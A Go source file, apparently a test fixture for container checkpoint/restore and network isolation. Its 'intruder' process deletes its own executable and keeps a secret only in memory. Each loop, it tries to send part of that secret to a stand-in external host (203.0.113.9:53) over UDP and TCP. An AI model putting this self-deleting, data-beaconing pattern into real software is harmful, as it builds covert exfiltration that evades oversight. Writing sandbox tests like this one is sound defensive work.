package main

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

// secret is put together while the process runs: no file has it, nor has the
// program.
var secret []byte

// intruder has deleted its own executable, keeps a secret in memory alone, holds
// a connection, and counts by what comes back over it. At each step it tries to
// send something out, by UDP and by TCP.
func intruder(args []string) error {
	exe, err := os.Executable()
	if err != nil {
		return err
	}
	if err := os.Remove(exe); err != nil {
		return err
	}
	secret = []byte(strings.Join(append([]string{"amber"}, args...), "-") + "\x00")
	c, err := connection()
	if err != nil {
		return err
	}
	for n := uint64(1); ; n++ {
		if n, err = over(c, n); err != nil {
			return err
		}
		if err := say("/count", strconv.FormatUint(n, 10)); err != nil {
			return err
		}
		if n == 10 {
			if err := ready(); err != nil {
				return err
			}
		}
		for _, network := range []string{"udp", "tcp"} {
			if out, err := net.DialTimeout(network, "203.0.113.9:53", 20*time.Millisecond); err == nil {
				_, _ = out.Write(secret[:6])
				out.Close()
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// connection is one within the container, whose other end sends all back.
func connection() (net.Conn, error) {
	var lc net.ListenConfig
	lc.SetMultipathTCP(false) // CRIU dumps none
	l, err := lc.Listen(context.Background(), "tcp", "127.0.0.1:4444")
	if err != nil {
		return nil, err
	}
	go func() {
		if c, err := l.Accept(); err == nil {
			_, _ = io.Copy(c, c)
		}
	}()
	return net.Dial("tcp", "127.0.0.1:4444")
}

// over is a number that went there and back.
func over(c net.Conn, n uint64) (uint64, error) {
	b := binary.BigEndian.AppendUint64(nil, n)
	if _, err := c.Write(b); err != nil {
		return 0, err
	}
	_, err := io.ReadFull(c, b)
	return binary.BigEndian.Uint64(b), err
}

// say writes a file whole or not at all.
func say(name, text string) error {
	next := filepath.Join(filepath.Dir(name), ".next")
	if err := os.WriteFile(next, []byte(text+"\n"), 0o644); err != nil {
		return err
	}
	return os.Rename(next, name)
}
